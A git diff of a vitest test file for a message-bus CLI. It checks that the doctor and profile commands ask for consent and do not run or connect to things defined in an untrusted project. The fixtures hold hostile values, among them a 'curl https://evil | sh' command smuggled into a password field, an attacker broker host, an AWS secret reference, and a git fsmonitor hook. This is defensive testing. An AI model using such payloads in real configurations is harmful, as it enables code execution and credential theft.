@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process'
 import {
   chownSync,
   existsSync,
@@ -12,11 +13,18 @@ import {
 import { tmpdir, userInfo } from 'node:os'
 import { join } from 'node:path'
 import { beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest'
+import type { BusProbe } from '../../src/bus/probe.ts'
+import type { BusAddress } from '../../src/cli/config/bus-address.ts'
 import { connect } from '../../src/cli/config/connect.ts'
 import ConfigAllow from '../../src/commands/config/allow.ts'
 import ConfigCommand from '../../src/commands/config.ts'
+import DoctorConnection from '../../src/commands/doctor/connection.ts'
+import Doctor from '../../src/commands/doctor.ts'
 import NewAggregate from '../../src/commands/new/aggregate.ts'
 import NewTopic from '../../src/commands/new/topic.ts'
+import ProfileImport from '../../src/commands/profile/import.ts'
+import ProfileUse from '../../src/commands/profile/use.ts'
+import ProfileValidate from '../../src/commands/profile/validate.ts'
 import Publish from '../../src/commands/publish.ts'
 import SchemaImport from '../../src/commands/schema/import.ts'
 import StoreInit from '../../src/commands/store/init.ts'
@@ -60,6 +68,9 @@ const run = (command: Runnable, argv: string[], env: Record<string, string> = {}
   })
 
 const publishing = ['order-events', '--type', 'OrderPlaced.v1', '--data', '{}']
+
+/** Returns the notices about the target of a change. */
+const said = (stderr: string) => stderr.split('\n').filter((line) => line.startsWith('note: this goes to '))
 
 const filesIn = (path: string) => readdirSync(join(folder, path), { recursive: true, encoding: 'utf8' }).sort()
 
@@ -222,8 +233,6 @@ describe('an environment variable that a project file names', () => {
 })
 
 describe('the target of a change that a project file chose', () => {
-  const said = (stderr: string) => stderr.split('\n').filter((line) => line.startsWith('note: this goes to '))
-
   test('the target of a change that a project file chose is printed before the first change, once for each user, file and target', async () => {
     project({ profile: 'a', profiles: { a: { brokers: 'kafka-1:9092' } } })
     const note = `note: this goes to the brokers kafka-1:9092, as profile 'a' of ${projectFile} says (shown once)`
@@ -480,6 +489,27 @@ describe('the consent of the user', () => {
     },
   )
 
+  test.each<[string, Runnable]>([
+    ['doctor', Doctor],
+    ['doctor connection', DoctorConnection],
+  ])('the consent of the user is needed before %s connects to the brokers of a project', async (_, command) => {
+    withBrokers()
+    const probed: BusAddress[] = []
+    const probeBus = async (address: BusAddress): Promise<BusProbe> => {
+      probed.push(address)
+      return { kind: 'kafka', bootstrap: [], advertised: [] }
+    }
+    const { exitCode, stderr } = await run(command, [], {}, { probeBus })
+    expect([exitCode, stderr, probed]).toEqual([6, expect.stringContaining('needs your consent'), []])
+
+    // With consent, only the brokers of the settings in force, and not those of other profiles.
+    project({ profile: 'dev', profiles: { dev: theirs, other: { brokers: 'other:9092' } } })
+    user({ profiles: { prod: { brokers: 'prod:9092' } } })
+    await run(ConfigAllow, ['--yes'])
+    await run(command, [], {}, { probeBus })
+    expect(probed).toMatchObject([{ kind: 'kafka', brokers: 'theirs:9093' }])
+  })
+
   test('the consent of the user is asked for with the whole program and its arguments', async () => {
     withBrokers({ ...theirs, sasl: { ...theirs.sasl, password: 'cmd:sh -c "curl https://evil | sh"' } })
     const { stdout, exitCode } = await run(ConfigAllow, ['--dry-run'])
@@ -626,6 +656,73 @@ describe('the consent of the user', () => {
     withBrokers()
     const { exitCode, stderr } = await run(ConfigAllow, ['--yes'], {}, { stateFolder: '/proc/crbus' })
     expect([exitCode, stderr]).toEqual([6, expect.stringContaining('is not writable')])
+  })
+})
+
+describe('the commands for profiles in the project of a stranger', () => {
+  const marker = () => join(folder, 'ran')
+
+  test('profile use does not choose a profile in a copy of the project, and a profile that appears later is announced', async () => {
+    user({ profiles: { prod: { brokers: 'mine:9092' } } })
+    project({})
+    expect((await run(ProfileUse, ['prod'])).exitCode).toBe(0)
+    mkdirSync(join(folder, 'copy'))
+    writeFileSync(join(folder, 'copy/crbus.json'), readFileSync(projectFile))
+    const copied = await run(ConfigCommand, ['--json'], {}, { cwd: join(folder, 'copy') })
+    expect(JSON.parse(copied.stdout).profile).toBeUndefined()
+
+    project({ profiles: { prod: { brokers: 'evil:9092' } } })
+    expect(said((await run(Publish, publishing)).stderr)).toEqual([
+      `note: this goes to the brokers evil:9092, as profile 'prod' of ${projectFile} says, which hides your own profile of that name (shown once)`,
+    ])
+    const secret = { mechanism: 'PLAIN', username: 'me', password: 'env:AWS_SECRET_ACCESS_KEY' }
+    project({ profiles: { prod: { brokers: 'evil:9092', tls: true, sasl: secret } } })
+    expect((await run(Publish, publishing)).exitCode).toBe(6)
+  })
+
+  test('profile import reads the file of a tool in the project without running or connecting, and asks first', async () => {
+    const sasl = `{ enabled: true, username: u, password: 'cmd:touch ${marker()}' }`
+    writeFileSync(join(folder, 'project/kafkactl.yml'), `contexts: { prod: { brokers: ['evil:9093'], sasl: ${sasl} } }`)
+    let opened = 0
+    const openBus = () => {
+      opened += 1
+      return new InMemoryEventBus({ broker })
+    }
+    const asked = await run(ProfileImport, ['kafkactl', '--with-secrets'], {}, { openBus, home: join(folder, 'home') })
+    expect(asked.exitCode).toBe(6)
+    expect(asked.stdout).toContain(`From ${join(folder, 'project/kafkactl.yml')}`)
+    expect(asked.stdout).toContain('evil:9093')
+    expect(existsSync(userFile)).toBe(false)
+
+    const yes = ['kafkactl', '--with-secrets', '--yes']
+    expect((await run(ProfileImport, yes, {}, { openBus, home: join(folder, 'home') })).exitCode).toBe(0)
+    const { profiles } = JSON.parse(readFileSync(userFile, 'utf8'))
+    expect(profiles.prod.sasl.password).toBe(`plain:cmd:touch ${marker()}`)
+    expect([opened, existsSync(marker())]).toEqual([0, false])
+  })
+
+  test('profile validate and config run no program of the project and of its repository, and connect to nothing', async () => {
+    const root = join(folder, 'project')
+    for (const words of [
+      ['init', '--quiet'],
+      ['config', 'core.fsmonitor', `touch ${marker()}; false`],
+    ])
+      execFileSync('git', words, { cwd: root })
+    const sasl = { mechanism: 'SCRAM-SHA-256', username: `cmd:touch ${marker()}`, password: SECRET }
+    project({ profile: 'a', profiles: { a: { brokers: 'evil:9093', sasl } } })
+    execFileSync('git', ['-c', 'core.fsmonitor=false', 'add', 'crbus.json'], { cwd: root })
+    let opened = 0
+    const openBus = () => {
+      opened += 1
+      return new InMemoryEventBus({ broker })
+    }
+
+    const { exitCode, stdout } = await run(ProfileValidate, [], {}, { openBus })
+
+    expect([exitCode, stdout]).toEqual([10, expect.stringContaining('is a secret in a file that git tracks')])
+    expect((await run(ConfigCommand, [], {}, { openBus })).exitCode).toBe(0)
+    expect([opened, existsSync(marker())]).toEqual([0, false])
+    expect(stdout).not.toContain(SECRET)
   })
 })
 
